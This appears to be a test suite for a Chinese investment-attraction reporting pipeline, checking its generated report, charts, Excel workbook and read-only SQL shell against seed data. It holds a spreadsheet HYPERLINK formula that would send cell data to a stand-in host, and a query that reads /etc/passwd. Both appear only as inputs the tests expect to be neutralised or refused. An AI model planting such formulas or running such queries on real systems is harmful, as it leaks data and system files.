"""The seed's half-year report drafted from data: one real nightly run (no Airflow) over the
generated seed half-year, then the .docx read back with python-docx, the HTML, the charts, the
printable workbook and the analysts' SQL shell, all checked against the seed and the marts."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from tests.report.readback import docx_text as _docx_text
from tests.report.readback import html_text as _html_text
from zhaoshang import reference

SEED_STATISTICS = [
    "共引进项目434个",
    "实际到位资金10.4亿元",
    "一产项目27个，项目资金4054万元，占3.9%",
    "二产项目274个，项目资金59276万元，占57.2%",
    "三产项目104个，项目资金23297万元，占22.5%",
    "专项资金项目29个，项目资金10433万元，占10.1%",
    "金融贷款6645万元，占6.4%",
    "300万元以下的项目328个",
    "300-499万元的项目47个",
    "500-999万元的项目37个",
    "1000万元以上的项目22个",
]
SEED_BLANK_UNITS = {"烟草局", "盐务局", "信访局", "中行", "农行", "财险公司"}


def _flag_counts(warehouse: Path) -> dict[str, int]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        counts = dict(
            con.execute(
                """select rule, count(*) from audit.dq_flags
                   where year = 2021 and coalesce(month, 1) <= 6 and status <> 'dismissed'
                   group by 1"""
            ).fetchall()
        )
    words = reference.rule_words()
    return {words[rule]: count for rule, count in counts.items()}


def _check_report_text(text: str, warehouse: Path) -> None:
    for phrase in SEED_STATISTICS:
        assert phrase in text, phrase
    # the seed's own shares are wrong in two places; ours are computed, not copied
    assert "占22.4%" not in text and "占10.3%" not in text
    blank = re.search(r"尚有(.+?)等(\d+)个单位招商引资依然空白", text)
    assert blank, "blank units sentence"
    assert set(blank.group(1).split("、")) == SEED_BLANK_UNITS and blank.group(2) == "6"
    counts = _flag_counts(warehouse)
    assert counts, "the seed half-year has missing reports to count"
    for rule_zh, count in counts.items():
        assert f"{rule_zh}{count}条" in text, rule_zh
    assert "尚未引进投资规模5000万元以上的重大项目" in text  # the seed's weakness, from data
    assert "直接利用外资仍是空白" in text
    for heading in ("四、工作措施", "五、下步打算", "附录：数据来源"):
        assert heading in text
    assert "from marts.sector_summary" in text  # each figure's query is listed


def test_the_docx_states_the_seed_statistics_as_the_data_give_them(seed_night):
    settings = seed_night["settings"]
    written = seed_night["summary"]["report"]
    assert written["year"] == 2021 and written["month"] == 6
    docx_path = Path(written["docx"])
    assert docx_path.name == "招商引资工作总结_2021年1-6月.docx"
    _check_report_text(_docx_text(docx_path), settings.warehouse)


def test_the_html_states_the_same(seed_night):
    settings = seed_night["settings"]
    html_path = Path(seed_night["summary"]["report"]["html"])
    assert html_path.name == "招商引资工作总结_2021年1-6月.html"
    _check_report_text(_html_text(html_path), settings.warehouse)
    page = html_path.read_text(encoding="utf-8")
    assert page.count('src="data:image/png;base64,') == 5  # self-contained, opens offline
    assert "http://" not in page and "https://" not in page


def test_charts_render_to_png_and_are_embedded(seed_night):
    import docx

    written = seed_night["summary"]["report"]
    names = {Path(p).name for p in written["charts"]}
    assert names == {
        f"{k}.png" for k in ("sector_shares", "size_bands", "units", "monthly", "flags")
    }
    for path in written["charts"]:
        data = Path(path).read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000, path
    assert len(docx.Document(written["docx"]).inline_shapes) == 5


def test_the_report_command_writes_another_month(seed_night):
    proc = subprocess.run(
        [sys.executable, "-m", "zhaoshang", "report", "--year", "2021", "--month", "3"],
        env=seed_night["env"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    path = seed_night["settings"].output_dir / "reports" / "招商引资工作总结_2021年1-3月.docx"
    text = _docx_text(path)
    assert "1-3月，全县共引进项目" in text and "序时进度25.0%" in text
    with duckdb.connect(str(seed_night["settings"].warehouse), read_only=True) as con:
        projects = con.execute(
            "select sum(new_projects) from marts.sector_summary where year = 2021 and month = 3"
        ).fetchone()[0]
    assert f"共引进项目{projects}个" in text


def test_the_index_links_report_workbook_and_docs_that_open_offline(seed_night):
    out = seed_night["settings"].output_dir
    index = (out / "index.html").read_text(encoding="utf-8")
    for href in ("reports/", "exports/", "dbt_docs/index.html", "data_quality.html"):
        assert href in index, href
    dbt_docs = (out / "dbt_docs" / "index.html").read_text(encoding="utf-8")
    assert "sector_summary" in dbt_docs  # --static: manifest inlined, no catalog.json to fetch
    quality = (out / "data_quality.html").read_text(encoding="utf-8")
    assert "漏报" in quality and "<link" not in quality and "<script" not in quality


# ------------------------------------------------------------------------ the workbook


@pytest.fixture(scope="module")
def workbook(seed_night):
    import openpyxl

    return openpyxl.load_workbook(seed_night["summary"]["export"]["path"])


def _data_rows(sheet):
    """Rows under the heading row (row 3), the 合计 row apart."""
    rows = [r for r in sheet.iter_rows(min_row=4) if any(c.value is not None for c in r)]
    total = rows[-1] if any(c.value == "合计" for c in rows[-1]) else None
    return (rows[:-1] if total else rows), total


def test_workbook_sheets_titles_and_print_setup(workbook):
    assert workbook.sheetnames == ["按产业", "按规模", "单位考核", "本年新引进", "续建", "疑点"]
    for sheet in workbook.worksheets:
        assert str(sheet["A1"].value).startswith("2021年1-6月"), sheet.title
        assert "数据截至2021年6月" in sheet["A2"].value
        assert sheet.freeze_panes == "A4", sheet.title
        assert sheet.page_setup.orientation == "landscape"
        assert str(sheet.page_setup.paperSize) == "9"  # A4
        # fit to one page wide (fitToWidth absent = 1, the OOXML default), any number of pages down
        assert sheet.page_setup.fitToWidth in (None, 1, "1")
        assert sheet.page_setup.fitToHeight in (0, "0")
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$3:$3"


def test_workbook_number_formats_and_dates(workbook):
    rows, _total = _data_rows(workbook["按产业"])
    headings = [c.value for c in workbook["按产业"][3]]
    funds = rows[0][headings.index("实际到位资金（万元）")]
    share = rows[0][headings.index("占比（%）")]
    assert funds.number_format == "#,##0.00" and funds.data_type == "n" and funds.value == 4054
    assert share.number_format == "0.0"
    register, _ = _data_rows(workbook["本年新引进"])
    reg_headings = [c.value for c in workbook["本年新引进"][3]]
    first = register[0][reg_headings.index("首次报送月份")]
    assert isinstance(first.value, datetime) and first.number_format == 'yyyy"年"m"月"'
    labels = {b["label_zh"] for b in reference.size_bands()}
    bands = {r[reg_headings.index("投资规模")].value for r in register} - {None}
    assert bands <= labels  # one label for each band, the seed's
    widths = workbook["本年新引进"].column_dimensions
    assert widths["B"].width >= 12  # Chinese project names fit


def test_workbook_totals_match_the_marts(workbook, seed_night):
    with duckdb.connect(str(seed_night["settings"].warehouse), read_only=True) as con:
        sector = con.execute(
            """select sum(new_projects), sum(funds_wan), sum(verified_funds_wan),
                      sum(continuing_funds_wan)
               from marts.sector_summary where year = 2021 and month = 6"""
        ).fetchone()
        units = con.execute(
            """select count(*), sum(funds_wan), sum(target_funds_wan)
               from marts.unit_performance where year = 2021 and month = 6"""
        ).fetchone()
        new_funds = con.execute(
            """select sum(funds_wan) from marts.sector_summary
               where year = 2021 and month = 6 and sector <> '金融贷款'"""
        ).fetchone()[0]
    rows, total = _data_rows(workbook["按产业"])
    values = [c.value for c in total]
    assert values[0] == "合计"
    assert values[1:4] == [sector[0], pytest.approx(float(sector[1])), 100.0]
    assert values[5] == pytest.approx(float(sector[2])) and values[7] == pytest.approx(
        float(sector[3])
    )
    assert sum(r[2].value for r in rows) == pytest.approx(values[2])
    unit_rows, unit_total = _data_rows(workbook["单位考核"])
    assert len(unit_rows) == units[0]
    headings = [c.value for c in workbook["单位考核"][3]]
    assert unit_total[headings.index("实际到位资金（万元）")].value == pytest.approx(
        float(units[1])
    )
    completion = unit_total[headings.index("完成率（%）")].value
    assert completion == pytest.approx(100 * float(units[1]) / float(units[2]), abs=1e-3)
    # the year's new projects carry the headline funds other than bank loans
    new_rows, new_total = _data_rows(workbook["本年新引进"])
    assert len(new_rows) == 434
    reg_headings = [c.value for c in workbook["本年新引进"][3]]
    assert new_total[reg_headings.index("累计到位资金（万元）")].value == pytest.approx(
        float(new_funds)
    )


def test_a_clerks_hyperlink_formula_is_stored_as_text():
    import io

    import openpyxl

    from zhaoshang.safe_xlsx import PrintColumn, PrintSheet, print_workbook_bytes

    typed = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
    data = print_workbook_bytes(
        [
            PrintSheet(
                "项目",
                "=标题",
                "截至",
                [PrintColumn("项目名称"), PrintColumn("到位资金（万元）", "#,##0.00")],
                [[typed, Decimal("12.5")]],
                totals=["合计", Decimal("12.5")],
            )
        ]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cell = sheet["A4"]
    assert cell.data_type == "s" and cell.value == "'" + typed
    assert sheet["A1"].value == "'=标题"
    assert sheet["B4"].value == 12.5 and sheet["B5"].value == 12.5
    with zipfile_text(data) as xml:
        assert "<f>" not in xml  # no formula anywhere in the file


class zipfile_text:
    """The worksheets' XML of an .xlsx, joined."""

    def __init__(self, data: bytes):
        self.data = data

    def __enter__(self) -> str:
        import io
        import zipfile

        with zipfile.ZipFile(io.BytesIO(self.data)) as zf:
            return "".join(
                zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/")
            )

    def __exit__(self, *exc) -> None:
        return None


# ------------------------------------------------------------------------ the SQL shell


def _sql(env: dict, command: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "zhaoshang", "sql", "-c", command],
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def test_sql_shell_reads_the_warehouse_read_only_without_external_access(seed_night):
    env = seed_night["env"]
    ok = _sql(
        env,
        "select sum(new_projects) as projects from marts.sector_summary where year = 2021 and month = 6",
    )
    assert ok.returncode == 0, ok.stderr
    assert "434" in ok.stdout and "projects" in ok.stdout
    described = _sql(env, "describe marts.sector_summary")
    assert "实际到位资金（万元）" in described.stdout and "按产业汇总" in described.stdout
    for refused in (
        "select * from read_csv('/etc/passwd')",
        "create table marts.mine as select 1",
        "set enable_external_access = true",
    ):
        proc = _sql(env, refused)
        assert proc.returncode == 1 and "错误 / error" in proc.stderr, refused


def test_sql_shell_keeps_working_while_a_night_publishes(seed_night, tmp_path):
    settings = seed_night["settings"]
    env = seed_night["env"] | {"HOME": str(tmp_path)}  # readline history goes here
    shell = subprocess.Popen(
        [sys.executable, "-u", "-m", "zhaoshang", "sql"],
        env=env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert "只读 / read-only" in shell.stdout.readline()  # the shell has the file open
    # a night publishes: a new file is renamed over the one the shell holds open
    staged = settings.warehouse.with_name(".next.duckdb.tmp")
    shutil.copyfile(settings.warehouse, staged)
    staged.chmod(0o644)
    with duckdb.connect(str(staged)) as con:
        con.execute("create table audit.published_marker as select 'next night' as note")
    staged.chmod(0o444)
    try:
        os.replace(staged, settings.warehouse)
        fresh = _sql(seed_night["env"], "select note from audit.published_marker")
        assert fresh.returncode == 0 and "next night" in fresh.stdout, fresh.stderr
        out, err = shell.communicate(
            "select count(*) as n\nfrom marts.sector_summary;\n.quit\n", timeout=60
        )
    finally:
        if shell.poll() is None:
            shell.kill()
    assert shell.returncode == 0, err
    assert "30" in out  # 5 sectors x 6 months, read from the snapshot it opened
    assert (tmp_path / ".zhaoshang_sql_history").exists()


def test_chart_labels_have_glyphs_in_the_cjk_font(seed_night, monkeypatch):
    """matplotlib warns 'Glyph … missing from font' where it would draw a tofu box."""
    import warnings

    from zhaoshang.report import charts, figures

    settings = seed_night["settings"]
    data = figures.read(settings.warehouse, 2021, 6, settings.units_csv)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        for key in charts.CHARTS:
            charts.CHARTS[key](data)
    # the check can fail: with a Latin-only font the same chart warns
    monkeypatch.setattr(charts, "cjk_font_family", lambda: "DejaVu Sans")
    with pytest.warns(UserWarning, match="missing from font"):
        charts.sector_shares(data)
    monkeypatch.undo()
    monkeypatch.setattr(charts, "CJK_FAMILIES", ("No Such CJK Font",))
    with pytest.raises(charts.MissingCJKFont, match="fonts-noto-cjk"):
        charts.sector_shares(data)


def test_without_a_cjk_font_the_report_is_written_without_charts(seed_night, monkeypatch, tmp_path):
    """A fresh machine where the fonts could not be installed (not root) still gets tonight's report."""
    import dataclasses

    import docx

    from zhaoshang import report
    from zhaoshang.report import charts

    monkeypatch.setattr(charts, "CJK_FAMILIES", ("No Such CJK Font",))
    settings = dataclasses.replace(seed_night["settings"], output_dir=tmp_path)
    written = report.write_report(settings, 2021, 6)
    assert "fonts-noto-cjk" in written["charts_missing"] and written["charts"] == []
    text = "\n".join(p.text for p in docx.Document(written["docx"]).paragraphs)
    assert "全县共引进项目434个" in text
